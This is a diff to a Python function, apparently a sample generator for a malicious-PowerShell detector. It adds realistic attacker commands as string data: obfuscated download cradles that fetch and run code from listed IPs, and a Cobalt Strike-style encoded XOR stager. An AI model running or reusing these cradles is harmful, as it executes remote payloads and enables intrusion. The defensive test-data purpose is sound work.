@@ -233,6 +233,25 @@ def other_stagers() -> list:
     # A download cradle hidden by string obfuscation (concatenation, format, [char]).
     lines.append("powershell -ep bypass -c \"IEX ((New-Object Net.WebClient).('Down'+'loadString').Invoke("
                  "('{1}{0}' -f '45.77.65.211/news.php','http://')))\"; powershell -c \"&([char]73+[char]69+[char]88) 'whoami'\"")
+    # Cobalt Strike-style PowerShell stager: gzip script whose Byte[] is XORed with
+    # 35 before it runs; the (fake) stager bytes carry host, URI and user agent.
+    stager = (bytes.fromhex("fce8890000006089e531d2648b523000") + b"cdn.update-check.net\x00/jquery-3.3.1.min.js\x00"
+              + b"User-Agent: Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko\r\n\x00" + bytes(8))
+    xored = bytes(b ^ 35 for b in stager)
+    cs_inner = ("Set-StrictMode -Version 2\n"
+                f"[Byte[]]$var_code = [System.Convert]::FromBase64String('{base64.b64encode(xored).decode()}')\n"
+                "for ($x = 0; $x -lt $var_code.Count; $x++) { $var_code[$x] = $var_code[$x] -bxor 35 }\n"
+                "$var_va = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer("
+                "(func_get_proc_address kernel32.dll VirtualAlloc), (func_get_delegate_type @([IntPtr], "
+                "[UInt32], [UInt32], [UInt32]) ([IntPtr])))\n")
+    lines.append("powershell -nop -w hidden -encodedcommand " + enc(
+        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"" + gzip_b64(cs_inner.encode()) +
+        "\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
+        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();"))
+    # Metasploit web_delivery-style cradle.
+    lines.append("powershell.exe -nop -w hidden -c $q=new-object net.webclient;$q.proxy="
+                 "[Net.WebRequest]::GetSystemWebProxy();$q.Proxy.Credentials=[Net.CredentialCache]::"
+                 "DefaultCredentials;IEX $q.downloadstring('http://172.16.5.20:8080/4tXyb3Wq');")
     # Base64 inside base64: -enc of a script that runs an ASCII FromBase64String payload.
     stage2 = "Get-WmiObject Win32_ComputerSystem | Select-Object Domain"
     outer = ("IEX ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('"
